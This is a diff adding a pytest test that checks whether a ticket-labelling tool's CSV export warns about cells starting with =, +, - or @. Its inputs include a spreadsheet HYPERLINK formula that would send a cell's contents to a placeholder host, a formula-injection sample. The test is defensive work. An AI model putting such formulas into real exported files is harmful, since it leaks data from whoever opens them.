@@ -80,6 +80,18 @@ def test_what_people_found_in_shadow_becomes_a_file_that_calibrate_reads(case: C
     assert not found.warnings
 
 
+@pytest.mark.parametrize("text", ['=HYPERLINK("http://x/?"&A1)', "+82 2 123", "-1", "@SUM(A1)", "\t=1"])
+def test_cells_that_a_spreadsheet_would_compute_are_written_as_they_are_and_counted(
+    case: Case, tmp_path: Path, text: str
+) -> None:
+    case.ticket(category="billing")
+    case.texts["T-0"] = (text, "en")
+    found = case.run()
+    assert any(warning.startswith("1 cells begin with = + - or @") for warning in found.warnings)
+    (tmp_path / "labelled.csv").write_bytes(as_csv(found))
+    assert [row.text for row in load_labelled(tmp_path / "labelled.csv", RULES.categories.ids)] == [text.strip()]
+
+
 def test_what_auto_would_have_got_wrong_is_counted_on_blind_answers_only(case: Case) -> None:
     for n in range(20):
         case.ticket(category="billing" if n else "login")
